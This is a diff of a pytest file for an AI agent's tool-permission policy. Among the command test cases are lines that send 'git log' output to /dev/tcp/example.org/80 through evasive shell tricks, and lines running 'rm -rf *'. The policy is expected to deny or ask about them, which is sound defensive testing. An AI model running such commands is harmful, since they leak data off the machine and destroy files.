@@ -1,6 +1,5 @@
 """The policy: levels, tools, lists of agents, file routes, and what it says about itself."""
 
-import dataclasses
 from pathlib import Path
 
 import pytest
@@ -36,19 +35,19 @@ def test_every_guarded_tool_of_the_table_is_tested() -> None:
     assert len(ACTION_BY_NAME) == len(ACTIONS)
 
 
-@pytest.mark.parametrize("tool", GUARDED)
-def test_who_is_asked_and_who_is_not(world: World, tool: str) -> None:
-    confined = world.policy("sandboxed", trust_mode=False, working_directory=Path("/scratch/s"))
-    assert confined.decide(tool, GUARDED[tool]).rule == "sandbox"
-    assert world.policy().decide(tool, GUARDED[tool]).rule == "trust-mode"
-    decision = world.policy(trust_mode=False).decide(tool, GUARDED[tool])
-    assert (decision.effect, decision.rule) == ("ask", "needs-grant")
+def test_who_is_asked_and_who_is_not(world: World) -> None:
+    for tool in GUARDED:
+        confined = world.policy("sandboxed", trust_mode=False, working_directory=Path("/scratch/s"))
+        assert confined.decide(tool, GUARDED[tool]).rule == "sandbox"
+        assert world.policy().decide(tool, GUARDED[tool]).rule == "trust-mode"
+        decision = world.policy(trust_mode=False).decide(tool, GUARDED[tool])
+        assert (decision.effect, decision.rule) == ("ask", "needs-grant"), tool
 
 
-@pytest.mark.parametrize("tool", ALWAYS)
-def test_tools_that_are_always_allowed(world: World, tool: str) -> None:
-    for policy in (world.policy(), world.policy(trust_mode=False), world.policy("sandboxed")):
-        assert policy.decide(tool, {}).effect == "allow"
+def test_tools_that_are_always_allowed(world: World) -> None:
+    for tool in ALWAYS:
+        for policy in (world.policy(), world.policy(trust_mode=False), world.policy("sandboxed")):
+            assert policy.decide(tool, {}).effect == "allow"
 
 
 def test_a_tool_that_nobody_knows(world: World) -> None:
@@ -92,9 +91,8 @@ def test_searches_that_only_leave_secrets_out_are_fine(world: World) -> None:
     assert policy.decide("Glob", {"pattern": "**/*"}).effect == "allow"
 
 
-@pytest.mark.parametrize(
-    ("tool", "fields"),
-    [
+def test_malformed_calls_are_denied_with_a_sentence(world: World) -> None:
+    for tool, fields in (
         ("Read", {}),
         ("Read", {"file_path": 3}),
         ("Read", {"file_path": None}),
@@ -116,14 +114,12 @@ def test_searches_that_only_leave_secrets_out_are_fine(world: World) -> None:
         ("Bash", "ls"),
         (None, {}),
         (7, {}),
-    ],
-)
-def test_malformed_calls_are_denied_with_a_sentence(world: World, tool: object, fields: object) -> None:
-    for policy in (world.policy(), world.policy(trust_mode=False), world.policy("sandboxed")):
-        decision = policy.decide(tool, fields)  # type: ignore[arg-type]
-        assert decision.effect == "deny"
-        assert decision.rule != "failure"
-        assert decision.reason.endswith(".")
+    ):
+        for policy in (world.policy(), world.policy(trust_mode=False), world.policy("sandboxed")):
+            decision = policy.decide(tool, fields)  # type: ignore[arg-type]
+            assert decision.effect == "deny", (tool, fields)
+            assert decision.rule != "failure", (tool, fields)
+            assert decision.reason.endswith("."), (tool, fields)
 
 
 @given(
@@ -145,9 +141,8 @@ def test_every_call_gets_an_answer(shared_world: World, tool: str, fields: dict[
         policy.suggested_grants(tool, fields)
 
 
-@pytest.mark.parametrize(
-    ("line", "allowed"),
-    [
+def test_an_agents_list_of_commands(shared_world: World) -> None:
+    for line, allowed in (
         ("git status", True),
         ("/usr/bin/git status", True),
         ("npm test && git log", True),
@@ -184,12 +179,10 @@ def test_every_call_gets_an_answer(shared_world: World, tool: str, fields: dict[
         ("x=/dev/tcp/example.org/80; git log > $x", False),
         ("git log > /dev/${x:-tcp}/example.org/80", False),
         ("git log > $(echo /dev/tcp/example.org/80)", False),
-    ],
-)
-def test_an_agents_list_of_commands(shared_world: World, line: str, allowed: bool) -> None:
-    for level in ("direct", "sandboxed"):
-        policy = shared_world.policy(level, allowed_commands=("git", "npm"))
-        assert policy.decide("Bash", {"command": line}).effect == ("allow" if allowed else "deny")
+    ):
+        for level in ("direct", "sandboxed"):
+            policy = shared_world.policy(level, allowed_commands=("git", "npm"))
+            assert policy.decide("Bash", {"command": line}).effect == ("allow" if allowed else "deny")
 
 
 def test_an_empty_list_of_commands_allows_none(world: World) -> None:
@@ -218,13 +211,11 @@ def test_who_may_not_run_commands_is_not_asked_about_them(world: World) -> None:
         assert policy.decide("Bash", {"command": line}).rule == "agent-tools"
 
 
-@pytest.mark.parametrize(
-    "line", ["cd a; cd b; cd c; cd d; cd e; cd f; x", "cd /; (cd tmp); cd x; rm -rf *", "cd .. && rm -rf *"]
-)
-def test_where_a_line_may_be_is_not_guessed(world: World, line: str) -> None:
-    assert world.policy().decide("Bash", {"command": line}).rule == "unknown-command"
-    assert world.policy(trust_mode=False).decide("Bash", {"command": line}).effect == "ask"
-    assert world.policy("sandboxed").decide("Bash", {"command": line}).effect == "allow"
+def test_where_a_line_may_be_is_not_guessed(world: World) -> None:
+    for line in ("cd a; cd b; cd c; cd d; cd e; cd f; x", "cd /; (cd tmp); cd x; rm -rf *", "cd .. && rm -rf *"):
+        assert world.policy().decide("Bash", {"command": line}).rule == "unknown-command"
+        assert world.policy(trust_mode=False).decide("Bash", {"command": line}).effect == "ask"
+        assert world.policy("sandboxed").decide("Bash", {"command": line}).effect == "allow"
 
 
 def test_tools_of_servers_are_those_of_the_session_and_no_others(world: World) -> None:
@@ -246,14 +237,6 @@ def test_an_unknown_level_or_a_relative_folder_is_an_error(world: World) -> None
         world.policy("full")
     with pytest.raises(InvalidInput, match="working_directory"):
         world.policy(working_directory=Path("Daily"))
-
-
-def test_a_policy_is_a_value(world: World) -> None:
-    policy = world.policy()
-    assert policy == world.policy()
-    with pytest.raises(dataclasses.FrozenInstanceError):
-        policy.trust_mode = False  # type: ignore[misc]
-    assert dataclasses.replace(policy, trust_mode=False).decide("Read", GUARDED["Read"]).effect == "ask"
 
 
 def test_the_description_says_what_holds(world: World) -> None:
